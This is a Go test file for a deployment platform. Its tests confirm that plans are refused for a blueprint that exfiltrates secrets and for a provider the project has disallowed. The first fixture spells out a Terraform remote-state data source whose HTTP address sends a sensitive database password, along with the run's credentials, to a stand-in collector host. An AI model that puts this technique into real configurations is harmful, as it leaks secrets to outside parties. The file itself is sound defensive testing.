package deployments_test

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"github.com/cloudoven/cloudoven/web/paths"
	"github.com/cloudoven/cloudoven/web/webtest"
)

// leakDoc is the blueprint of the report: webtest.VarsDoc with a terraform_remote_state data
// source whose http backend address carries the environment's secret to a host of the
// author's choosing. Terraform's builtin provider reads it during any plan, before anyone
// approves, and sends the run's state credentials along as basic auth.
const leakDoc = `{"format": 1, "name": "app", "variables": [
  {"name": "location", "type": "string", "description": "Azure region."},
  {"name": "node_count", "type": "number", "default": {"literal": 3}},
  {"name": "enabled", "type": "bool", "default": {"literal": true}},
  {"name": "tags", "type": "map(string)", "default": {"literal": {}}},
  {"name": "db_password", "type": "string", "sensitive": true}
], "data": [{"type": "terraform_remote_state", "name": "leak", "config": {
  "backend": {"literal": "http"},
  "config": {"expr": "{ address = \"http://collector.example:8080/?pw=${nonsensitive(var.db_password)}\" }"}}}],
 "resources": [{"type": "terraform_data", "name": "web", "config": {"input": {"ref": "var.location"}}}]}`

// TestPlanRefusesTheExfiltrationBlueprint: an editor imports the blueprint of the report and
// an operator presses Plan on an environment whose findings do not block. The plan is
// refused (and so is a destroy, whose plan reads data sources too), nothing reaches the
// executor, and the deployment page names the finding.
func TestPlanRefusesTheExfiltrationBlueprint(t *testing.T) {
	t.Parallel()
	exec := &webtest.FakeExecutor{}
	a, deployment := webtest.RunApp(t, exec)
	a.ImportDoc("team", leakDoc, "remote state")
	webtest.WantStatus(t, a.PostForm(deployment+"/promote", url.Values{"version": {"2"}}, false), http.StatusSeeOther)

	page := a.Page(deployment)
	g := webtest.ByTestID(page, "deployment-guardrails")
	f := g.Find(`[data-testid="deployment-finding"][data-rule="own-remote-state"]`)
	if f.Length() != 1 || f.AttrOr("data-resource", "") != "data.terraform_remote_state.leak" || !strings.Contains(f.Text(), "collector.example") {
		t.Errorf("the deployment page's guardrails: %q", g.Text())
	}
	if f.Find(`[data-testid="finding-blocks"]`).Length() != 1 || webtest.ByTestID(g, "guardrails-always-blocking").Length() != 1 {
		t.Errorf("the finding is not shown as blocking every plan: %q", g.Text())
	}
	if got := webtest.ByTestID(page, "plan-blocked").Text(); !strings.Contains(got, "own-remote-state") {
		t.Errorf("beside Plan: %q", got)
	}

	for _, op := range []string{"plan", "destroy"} {
		w := a.PostForm(paths.DeploymentRuns("team", 1), url.Values{"op": {op}, "confirm": {"app → dev"}}, true)
		if w.Code != http.StatusConflict {
			t.Errorf("%s: status %d, want 409 (Location %q)", op, w.Code, w.Header().Get("Location"))
			continue
		}
		got := webtest.WantOne(t, webtest.WantFragment(t, w, "deploy-runs"), "runs-problem")
		if !strings.Contains(got, "own-remote-state on data.terraform_remote_state.leak") {
			t.Errorf("the refused %s says %q", op, got)
		}
	}
	runs, err := a.Store.DeploymentRuns(context.Background(), 1, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(runs) != 0 {
		t.Errorf("%d runs were created; the first is %s with error %q", len(runs), runs[0].State, runs[0].Error)
	}
}

// toolDoc is webtest.VarsDoc with a provider the catalog does not hold.
const toolDoc = `{"format": 1, "name": "app",
  "required_providers": [{"name": "tool", "source": "registry.example.com/acme/tool", "version": "1.0.0"}],
  "variables": [
  {"name": "location", "type": "string", "description": "Azure region."},
  {"name": "node_count", "type": "number", "default": {"literal": 3}},
  {"name": "enabled", "type": "bool", "default": {"literal": true}},
  {"name": "tags", "type": "map(string)", "default": {"literal": {}}},
  {"name": "db_password", "type": "string", "sensitive": true}
], "resources": [{"type": "terraform_data", "name": "web", "config": {"input": {"ref": "var.location"}}},
  {"type": "tool_thing", "name": "x", "config": {}}]}`

// TestDeploymentWithAProviderTheProjectDoesNotAllow: allowed when imported, then taken back,
// the provider is an error on the deployment page, and Plan and Destroy are refused.
func TestDeploymentWithAProviderTheProjectDoesNotAllow(t *testing.T) {
	t.Parallel()
	a, deployment := webtest.RunApp(t, &webtest.FakeExecutor{})
	ctx := context.Background()
	const source = "registry.example.com/acme/tool"
	if _, err := a.Store.AllowProvider(ctx, "team", source, "admin"); err != nil {
		t.Fatal(err)
	}
	a.ImportDoc("team", toolDoc, "a tool")
	webtest.WantStatus(t, a.PostForm(deployment+"/promote", url.Values{"version": {"2"}}, false), http.StatusSeeOther)
	if got := webtest.ByTestID(a.Page(deployment), "plan-blocked").Text(); got != "" {
		t.Errorf("while the source is allowed, beside Plan: %q", got)
	}
	if err := a.Store.DisallowProvider(ctx, "team", source); err != nil {
		t.Fatal(err)
	}

	page := a.Page(deployment)
	var errs []string
	webtest.ByTestID(webtest.ByTestID(page, "deployment-diagnostics"), "diagnostic").Each(func(_ int, s *goquery.Selection) {
		if s.AttrOr("data-severity", "") == "error" {
			errs = append(errs, strings.Join(strings.Fields(s.Text()), " "))
		}
	})
	if len(errs) != 1 || !strings.Contains(errs[0], "required_providers[0].source") || !strings.Contains(errs[0], source+" is not allowed in this project") {
		t.Errorf("the deployment's errors: %q", errs)
	}
	if got := webtest.ByTestID(page, "plan-blocked").Text(); !strings.Contains(got, "Plan and destroy will be refused") || !strings.Contains(got, source) {
		t.Errorf("beside Plan: %q", got)
	}
	for _, op := range []string{"plan", "destroy"} {
		w := a.PostForm(paths.DeploymentRuns("team", 1), url.Values{"op": {op}, "confirm": {"app → dev"}}, true)
		webtest.WantStatus(t, w, http.StatusConflict)
		if got := webtest.WantOne(t, webtest.WantFragment(t, w, "deploy-runs"), "runs-problem"); !strings.Contains(got, "uses provider "+source) {
			t.Errorf("the refused %s says %q", op, got)
		}
	}
	runs, err := a.Store.DeploymentRuns(ctx, 1, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(runs) != 0 {
		t.Errorf("%d runs were created", len(runs))
	}
}
